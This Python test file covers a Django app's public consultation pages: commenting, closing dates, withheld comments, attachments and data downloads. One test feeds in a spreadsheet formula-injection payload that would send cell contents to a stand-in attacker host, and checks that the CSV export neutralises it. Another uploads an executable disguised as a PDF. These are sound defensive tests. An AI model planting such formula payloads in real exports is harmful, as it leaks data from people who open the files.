"""The public consultation pages: commenting with JavaScript off, the close, withheld comments."""

import csv
import json
import re
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from oversight.accounts.models import User
from oversight.consultations import actions
from oversight.consultations.models import Comment, Consultation
from oversight.consultations.tests.helpers import comment, past_close
from oversight.core import audit
from oversight.core.models import AuditEntry
from oversight.core.tests.hostile import blank_pdf

pytestmark = pytest.mark.django_db


def _url(consultation: Consultation) -> str:
    return f"/consultations/{consultation.reference}/"


def _form(client: Client, consultation: Consultation) -> dict[str, Any]:
    page = client.get(_url(consultation)).content.decode()
    key = re.search(r'name="idempotency_key" value="([^"]+)"', page)
    assert key is not None
    return {
        "name": "Amina",
        "stakeholder_type": "civil_society",
        "text": "The destination has no independent oversight of surveillance.",
        "idempotency_key": key.group(1),
    }


def test_it_shows_the_notice_and_the_redactions_with_reasons(consultation: Consultation) -> None:
    page = Client().get(_url(consultation)).content.decode()
    assert consultation.reference.startswith("C-") and consultation.reference in page
    assert "Ruritania" in page and "Commercially confidential" in page
    assert '<label for="id_text">' in page and 'enctype="multipart/form-data"' in page
    assert "<script" not in page


def test_it_takes_a_comment_and_keeps_its_text_out_of_the_audit_log(
    consultation: Consultation,
) -> None:
    client = Client()
    response = client.post(_url(consultation), _form(client, consultation))
    assert response.status_code == 302
    saved = Comment.objects.get()
    assert saved.status == "pending" and saved.name == "Amina"
    entry = AuditEntry.objects.order_by("-seq").first()
    assert entry is not None and entry.action == "consultations.comment.submitted"
    logged = str([entry.changes, entry.reasons, entry.object_repr])
    assert "oversight" not in logged and "Amina" not in logged
    assert audit.verify().ok


def test_it_makes_one_comment_of_a_double_submit(consultation: Consultation) -> None:
    client = Client()
    data = _form(client, consultation)
    first = client.post(_url(consultation), data)
    second = client.post(_url(consultation), data)
    assert first.status_code == second.status_code == 302
    assert Comment.objects.count() == 1


def test_it_refuses_a_comment_after_the_close_saying_when(consultation: Consultation) -> None:
    client = Client()
    data = _form(client, consultation)
    consultation = past_close(consultation)
    response = client.post(_url(consultation), data)
    assert response.status_code == 400
    page = response.content.decode()
    assert "closed on" in page and str(consultation.closes_at.year) in page
    assert consultation.closes_at.strftime("%B") in page
    assert not Comment.objects.exists()


def test_it_refuses_a_comment_before_it_opens(consultation: Consultation) -> None:
    Consultation.objects.filter(pk=consultation.pk).update(
        opens_at=consultation.closes_at, closes_at=consultation.closes_at.replace(year=2999)
    )
    consultation.refresh_from_db()
    with pytest.raises(ValidationError, match="opens on"):
        comment(consultation)


def test_it_names_each_missing_field(consultation: Consultation) -> None:
    client = Client()
    data = _form(client, consultation) | {"text": "", "stakeholder_type": ""}
    response = client.post(_url(consultation), data)
    assert response.status_code == 400
    page = response.content.decode()
    assert page.count('class="field-error"') == 2
    assert not Comment.objects.exists()


def test_it_shows_a_withheld_comment_s_reason_publicly(
    consultation: Consultation, admin: User
) -> None:
    abusive = comment(consultation, "Abusive words here")
    actions.moderate_comment(abusive, accept=False, reason="Threatens a named person", actor=admin)
    page = Client().get(_url(consultation)).content.decode()
    assert "A comment was withheld: Threatens a named person" in page
    assert "Abusive words here" not in page
    past_close(consultation, close=True)
    page = Client().get(_url(consultation)).content.decode()
    assert "Threatens a named person" in page and "Abusive words here" not in page


def test_it_publishes_accepted_comments_only_after_the_close(
    consultation: Consultation, admin: User
) -> None:
    kept = comment(consultation, "Refuse: no oversight body.", name="Amina")
    actions.moderate_comment(kept, accept=True, reason="", actor=admin)
    assert "Refuse: no oversight body." not in Client().get(_url(consultation)).content.decode()
    consultation = past_close(consultation, close=True)
    actions.mark_considered(kept, response="We added a reporting condition.", actor=admin)
    page = Client().get(_url(consultation)).content.decode()
    assert "Refuse: no oversight body." in page and "Amina" in page
    assert "We added a reporting condition." in page


def test_it_keeps_a_pdf_and_refuses_a_program_named_pdf(consultation: Consultation) -> None:
    client = Client()
    good = SimpleUploadedFile("brief.pdf", blank_pdf(), content_type="application/pdf")
    bad = SimpleUploadedFile("evil.pdf", b"MZ\x90\x00binary", content_type="application/pdf")
    response = client.post(_url(consultation), _form(client, consultation) | {"attachments": bad})
    assert response.status_code == 400
    assert "evil.pdf is not a PDF, PNG, JPEG or plain-text file" in response.content.decode()
    response = client.post(_url(consultation), _form(client, consultation) | {"attachments": good})
    assert response.status_code == 302
    attachment = Comment.objects.get().attachments.get()
    assert attachment.content_type == "application/pdf" and "brief" not in attachment.file.name


def test_it_serves_an_attachment_only_once_its_comment_is_published(
    consultation: Consultation, admin: User
) -> None:
    client = Client()
    upload = SimpleUploadedFile("notes.txt", b"plain notes", content_type="text/plain")
    client.post(_url(consultation), _form(client, consultation) | {"attachments": upload})
    saved = Comment.objects.get()
    url = f"{_url(consultation)}files/{saved.attachments.get().pk}/"
    assert client.get(url).status_code == 404
    actions.moderate_comment(saved, accept=True, reason="", actor=admin)
    assert client.get(url).status_code == 404
    past_close(consultation, close=True)
    response = client.get(url)
    assert response.status_code == 200 and response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == b"plain notes"  # type: ignore[attr-defined]


def test_the_list_puts_open_consultations_first_in_few_queries(
    consultation: Consultation, matter: Any, admin: User
) -> None:
    older = actions.open_consultation(
        matter, title="An older one", notice={"A": "B"}, redactions=[], actor=admin
    )
    past_close(older, close=True)
    with CaptureQueriesContext(connection) as queries:
        page = Client().get("/consultations/").content.decode()
    assert page.index(consultation.title) < page.index("An older one")
    assert len(queries) <= 6


def test_the_list_downloads_the_public_dataset(consultation: Consultation) -> None:
    response = Client().get("/consultations/?format=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    assert consultation.reference in body and "Commercially confidential" in body


def test_the_comments_download_neutralises_a_formula_from_an_anonymous_comment(
    consultation: Consultation, admin: User
) -> None:
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Read the annex")'
    kept = comment(consultation, formula, name="@SUM(1,1)")
    actions.moderate_comment(kept, accept=True, reason="", actor=admin)
    past_close(consultation, close=True)
    response = Client().get("/comments/?format=csv")
    rows = list(csv.DictReader(response.getvalue().decode().splitlines()))
    assert [(row["text"], row["name"]) for row in rows] == [("'" + formula, "'@SUM(1,1)")]
    exact = Client().get("/comments/?format=json")
    assert [row["text"] for row in json.loads(exact.getvalue())] == [formula]


def test_it_refuses_a_nul_character_in_an_anonymous_comment_naming_the_field(
    consultation: Consultation,
) -> None:
    client = Client()
    data = _form(client, consultation) | {"text": "Refuse\x00 the licence.", "name": "A\x00"}
    response = client.post(_url(consultation), data)
    assert response.status_code == 400
    assert response.content.decode().count('class="field-error"') == 2
    assert not Comment.objects.exists()
